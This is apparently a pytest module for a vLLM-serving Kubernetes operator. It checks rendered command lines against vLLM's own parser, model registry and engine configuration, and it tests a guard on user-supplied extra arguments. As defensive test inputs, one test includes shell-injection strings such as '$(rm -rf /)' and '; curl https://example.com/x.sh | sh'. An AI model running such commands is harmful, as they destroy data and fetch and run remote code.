"""The vLLM contract: what the operator renders, checked by the real vLLM of the default image.

KWOK starts no container, so no e2e test shows that a rendered pod would run. This module asks the
real vLLM package, same release as the default image (installed from PyPI by hack/vllm.sh into its
own virtualenv), through ``tests/harness/vllm_probe.py``:

- every argv the operator renders (each sample, a matrix of plans over catalog models x GPU types x
  quantization x KV dtype, multi-node leaders included, plus sources and user args) parses with
  vLLM's own ``vllm serve`` parser, and the parsed values are the plan's;
- every catalog architecture is in vLLM's model registry; every default parser is registered;
- vLLM's engine configuration, built on CPU from the catalog's config.json, accepts the plan
  (which of these checks vLLM can run without a GPU is reported per case);
- the extraArgs guard knows every spelling of the managed flags (the generated list is vLLM's), reads
  how many values each option takes as vLLM's parser does, and refuses nothing vLLM would take but
  for the stricter choices it lists.

Figures are printed (run with ``-s``): argv sets, configurations, checks that ran.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from devtools.vllm_flags import FLAGS_MODULE, probe, render_flags_module, vllm_python

from glm_operator.api import vllm_flags
from glm_operator.api.vllm_args import (
    MANAGED_DESTS,
    VALUES_ANY,
    VALUES_EXITS,
    VALUES_ONE_OR_MORE,
    VALUES_OPTIONAL,
    VALUES_SWITCH,
    check_extra_arg,
    first_unknown_flag,
    managed_flag,
    structure_error,
)
from glm_operator.catalog.models import load_models, resolve_model
from glm_operator.catalog.vllm import VLLM_VERSION, architecture_table

from .matrix import RenderedArgv, catalog_config, extra_argvs, matrix_argvs, sample_argvs


@pytest.fixture(scope="module")
def python() -> Iterator[str]:
    yield vllm_python()  # installs vLLM on first use (hack/vllm.sh); a failure fails the test


@pytest.fixture(scope="module")
def options(python: str) -> dict[str, Any]:
    result: dict[str, Any] = probe({"op": "options"}, python)
    return result


@pytest.fixture(scope="module")
def rendered() -> dict[str, list[RenderedArgv]]:
    matrix, tried = matrix_argvs()
    print(
        f"\nplan matrix: {tried} (model, GPU type, quantization, kv dtype) combinations, {len(matrix)} argvs"
    )
    return {"samples": sample_argvs(), "matrix": matrix, "extra": extra_argvs()}


def test_installed_vllm_is_the_default_images_release(options: dict[str, Any]) -> None:
    assert options["version"] == VLLM_VERSION


def test_every_rendered_argv_parses_with_vllms_parser_to_the_planned_values(
    python: str, rendered: dict[str, list[RenderedArgv]]
) -> None:
    argvs = [a for group in rendered.values() for a in group]
    unique = sorted({a.argv for a in argvs})
    answers = probe({"op": "parse", "argvs": [list(a) for a in unique]}, python)
    by_argv = dict(zip(unique, answers, strict=True))
    failures = []
    for item in argvs:
        answer = by_argv[item.argv]
        if not answer["ok"]:
            failures.append(f"{item.label}: {answer['error']} <- {' '.join(item.argv)}")
            continue
        values = answer["values"]
        for dest, want in item.expected.items():
            got = values.get(dest)
            if dest == "enable_expert_parallel":  # planned: must be on; else the user may add it
                got = bool(got) if want else want
            if got != want:
                failures.append(f"{item.label}: {dest} parsed as {got!r}, planned {want!r}")
    counts = {name: len(group) for name, group in rendered.items()}
    print(f"\nvLLM {VLLM_VERSION} parser: {len(argvs)} argvs ({counts}), {len(unique)} distinct, all parsed")
    assert not failures, "\n".join(failures[:20])


def test_every_catalog_architecture_is_in_vllms_model_registry(python: str) -> None:
    archs = sorted({m.architecture.architecture for m in load_models()} | set(architecture_table()))
    answer = probe({"op": "registry", "archs": archs}, python)
    missing = [arch for arch, ok in answer.items() if not ok]
    print(f"\nvLLM {VLLM_VERSION} model registry: {len(archs)} architectures checked")
    assert not missing, f"not in vLLM {VLLM_VERSION}'s model registry: {missing}"


def test_default_parsers_are_registered(python: str) -> None:
    answer = probe({"op": "parsers"}, python)
    tools = {d.tool_call_parser for d in _all_defaults() if d.tool_call_parser}
    reasoning = {d.reasoning_parser for d in _all_defaults() if d.reasoning_parser}
    assert tools and reasoning
    assert tools <= set(answer["tool_call_parsers"]), answer["tool_call_parsers"]
    assert reasoning <= set(answer["reasoning_parsers"]), answer["reasoning_parsers"]


def _all_defaults() -> list[Any]:
    return [resolve_model(m.id).serving_defaults for m in load_models()] + list(architecture_table().values())


def _engine_cases(rendered: dict[str, list[RenderedArgv]]) -> list[dict[str, Any]]:
    """One case per distinct (checkpoint, TP, PP, quantization flag, kv dtype, context) of the
    matrix and samples: what vLLM's engine configuration depends on."""
    raw = {m.id: m for m in load_models()}
    seen: set[tuple[Any, ...]] = set()
    cases = []
    for item in rendered["samples"] + rendered["matrix"]:
        argv = list(item.argv)
        kv = argv[argv.index("--kv-cache-dtype") + 1] if "--kv-cache-dtype" in argv else None
        shape = {
            k: v for k, v in item.expected.items() if k not in ("max_num_seqs", "enable_expert_parallel")
        }
        key = (item.model_id, item.argv[0], *sorted(shape.items()), kv)
        if key in seen:
            continue
        seen.add(key)
        config = catalog_config(raw[item.model_id].id, item.argv[0])
        cases.append({"label": item.label, "argv": argv, "config": config})
    return cases


# What vLLM only finds out on a GPU, which this test cannot vouch for: memory profiling (weights +
# activation peak + KV cache blocks: the planner's fit model stands in), quantization kernels for
# the GPU's compute capability, attention backend support (FlashMLA / sparse MLA for GLM-5.x),
# CUDA graph capture and NCCL/Ray start-up.


def test_engine_configuration_accepts_every_plan_on_cpu(
    python: str, rendered: dict[str, list[RenderedArgv]]
) -> None:
    cases = _engine_cases(rendered)
    answers = probe({"op": "engine", "cases": cases}, python, timeout=1800)
    failures = [f"{c['label']}: {a['error']}" for c, a in zip(cases, answers, strict=True) if not a["ok"]]
    checks = Counter(check for a in answers for check in a["checks"])
    print(
        f"\nvLLM {VLLM_VERSION} engine config on CPU: {len(cases)} configurations, checks ran: {dict(checks)}"
    )
    assert not failures, "\n".join(failures[:20])


def test_generated_flag_list_is_vllms(options: dict[str, Any]) -> None:
    assert FLAGS_MODULE.read_text(encoding="utf-8") == render_flags_module(options), (
        "glm_operator/api/vllm_flags.py drifted from vLLM's parser: run `make vllm-flags`"
    )


def _spellings(option: str) -> list[str]:
    out = [option, f"{option}=1"]
    if option.startswith("--"):
        under = "--" + option[2:].replace("-", "_")
        out += [under, f"{under}=1"]
    elif len(option) == 2:
        out.append(f"{option}1")
    return out


def test_guard_refuses_exactly_the_managed_options_in_every_spelling(options: dict[str, Any]) -> None:
    wrong = []
    checked = 0
    for action in options["actions"]:
        managed = action["dest"] in MANAGED_DESTS
        for option in action["option_strings"]:
            for spelling in _spellings(option):
                if not managed and spelling.endswith("1") and len(option) == 2 and spelling == f"{option}1":
                    continue  # a glued value on an unmanaged one-letter option: nothing to say
                checked += 1
                if (managed_flag(spelling) is not None) != managed:
                    wrong.append(f"{spelling} (dest {action['dest']}, managed={managed})")
    print(f"\nextraArgs guard: {checked} spellings of {len(options['actions'])} vLLM options checked")
    assert not wrong, wrong[:20]
    assert vllm_flags.VLLM_VERSION == VLLM_VERSION


def _value_for(action: dict[str, Any]) -> str:
    if action["choices"]:
        return str(action["choices"][0])
    return {"int": "2", "float": "0.5", "human_readable_int": "2", "human_readable_int_or_auto": "2"}.get(
        str(action["type"]), "x"
    )


def test_guard_refuses_every_abbreviation_and_glued_form_vllm_takes_for_a_managed_flag(
    python: str, options: dict[str, Any]
) -> None:
    """Candidates: every prefix of every managed option, glued one-letter values, underscores; vLLM's
    own parser says which destinations each changes. A candidate that changes a managed destination
    must be refused; a refused one must change one or be rejected by vLLM (never a usable flag)."""
    actions = {o: a for a in options["actions"] for o in a["option_strings"]}
    candidates: list[list[str]] = []
    for option, action in actions.items():
        if action["dest"] not in MANAGED_DESTS:
            continue
        dashes = 2 if option.startswith("--") else 1
        for end in range(dashes + 1, len(option) + 1):
            prefix = option[:end]
            if action["nargs"] == 0:
                candidates.append([prefix])
            else:
                candidates.append([f"{prefix}={_value_for(action)}"])
                candidates.append([prefix, _value_for(action)])
                if len(option) == 2:
                    candidates.append([f"{option}{_value_for(action)}"])
        if option.startswith("--"):
            under = "--" + option[2:].replace("-", "_")
            candidates.append([under] if action["nargs"] == 0 else [f"{under}={_value_for(action)}"])
    unique = sorted({tuple(c) for c in candidates})
    answers = probe({"op": "changed", "argvs": [list(c) for c in unique]}, python)
    wrong = []
    for argv, answer in zip(unique, answers, strict=True):
        sets_managed = answer["ok"] and any(d in MANAGED_DESTS for d in answer["changed"])
        refused = managed_flag(argv[0]) is not None
        if sets_managed and not refused:
            wrong.append(f"{argv} sets {answer['changed']} but the guard lets it through")
        if refused and answer["ok"] and not sets_managed:
            wrong.append(f"{argv} is refused but vLLM takes it for {answer['changed']}")
    print(
        f"\nextraArgs guard: {len(unique)} prefix/glued/underscore candidates checked against vLLM's parser"
    )
    assert not wrong, wrong[:20]


ATTACKS = ["-tp=8", "-pp", "-q", "-qfp8", "--tensor_parallel_size=8", "--max_model_len=1000000", "--config"]
ATTACKS += ["--data-parallel-size", "-dp=2", "--kv-cache-memory-bytes=1G", "--uds=/tmp/x", "--host=::"]


def test_guard_refuses_the_known_attacks_and_they_are_real_vllm_spellings(python: str) -> None:
    values = {"-pp": "2", "-q": "fp8", "--config": "/dev/null", "--data-parallel-size": "2"}
    argvs = [["m", a, values[a]] if a in values else ["m", a] for a in ATTACKS]
    answers = probe({"op": "parse", "argvs": argvs}, python)
    for attack, argv, answer in zip(ATTACKS, argvs, answers, strict=True):
        assert managed_flag(attack) is not None, attack
        # vLLM takes each of them (or, for --config, reads a file): they are not typos the parser would stop
        assert answer["ok"] or attack == "--config", (attack, argv, json.dumps(answer))


def _guard_refuses(argv: list[str]) -> bool:
    """Whether the extraArgs rules that read the list as vLLM does refuse ``argv`` (default image)."""
    return structure_error(argv) is not None or first_unknown_flag(argv) is not None


def _sample(action: dict[str, Any]) -> str:
    if action["json"]:
        return "{}"
    return {"str": "x", "_optional_type": "x"}.get(str(action["type"]), _value_for(action))


def test_the_option_table_reads_every_option_as_vllms_parser_does(
    python: str, options: dict[str, Any]
) -> None:
    """Per option of vllm serve (managed and exiting ones aside), as many values as the table says
    are taken (the guard accepts, vLLM parses), and one too few or too many are not (both refuse).
    A sample value vLLM's own type refuses (a path that must exist, a format) says nothing about
    the count: such an option is checked with the counts that fail anyway."""
    checks: list[tuple[list[str], bool]] = []  # (argv, the table says vLLM takes it)
    for action in options["actions"]:
        if action["dest"] in MANAGED_DESTS or not action["option_strings"]:
            continue
        code = vllm_flags.OPTION_VALUES[action["option_strings"][0]]
        if code == VALUES_EXITS:
            continue
        option, value = action["option_strings"][0], _sample(action)
        checks.append(
            ([option, "--enable-log-requests"], code in (VALUES_SWITCH, VALUES_OPTIONAL, VALUES_ANY))
        )
        checks.append(([option, value], code != VALUES_SWITCH))
        checks.append(([option, value, value], code in (VALUES_ONE_OR_MORE, VALUES_ANY)))
    answers = probe({"op": "parse", "argvs": [["m", *argv] for argv, _ in checks]}, python)
    wrong = []
    for (argv, takes), answer in zip(checks, answers, strict=True):
        if _guard_refuses(argv) == takes:
            wrong.append(f"the guard {'refuses' if takes else 'accepts'} {argv}")
        if not takes and answer["ok"]:
            wrong.append(f"vLLM takes {argv}, which the table says it does not")
    type_refused = sum(1 for (_, takes), a in zip(checks, answers, strict=True) if takes and not a["ok"])
    print(
        f"\noption table: {len(checks)} argvs of {len(options['actions'])} options; vLLM's types refused "
        f"{type_refused} sample values"
    )
    assert not wrong, wrong[:20]


#: What the rules refuse although vLLM's parser takes it, on purpose.
STRICTER_THAN_VLLM = {
    "--enable-prefix": "an abbreviation: unique today, ambiguous after another release adds a flag",
    "--": "the end of options: every entry after it, the operator's multi-node flags too, is positional",
}


def test_what_the_rules_refuse_vllm_refuses_too_but_the_stricter_choices(python: str) -> None:
    lists = [
        ["$(rm -rf /)"],
        ["; curl https://example.com/x.sh | sh"],
        ["`id`"],
        ["--seed"],
        ["--seed", "1", "2"],
        ["--enable-prefix-caching", "yes"],
        ["--enable-prefix-caching=true"],
        ["--seed=1", "2"],
        ["--seed.x=1"],
        ["--no-such-flag"],
        ["--lora-modules"],
        ["--seed", "-0.5"],
        *([key] for key in STRICTER_THAN_VLLM),
    ]
    answers = probe({"op": "parse", "argvs": [["m", *argv] for argv in lists]}, python)
    for argv, answer in zip(lists, answers, strict=True):
        assert _guard_refuses(argv) or any(check_refuses(argv)), argv
        assert answer["ok"] == (argv[0] in STRICTER_THAN_VLLM), (argv, answer)


def check_refuses(argv: list[str]) -> list[bool]:
    """The per-entry rules' verdicts (flag syntax) on ``argv``."""
    out = []
    for arg in argv:
        try:
            check_extra_arg(arg)
            out.append(False)
        except ValueError:
            out.append(True)
    return out
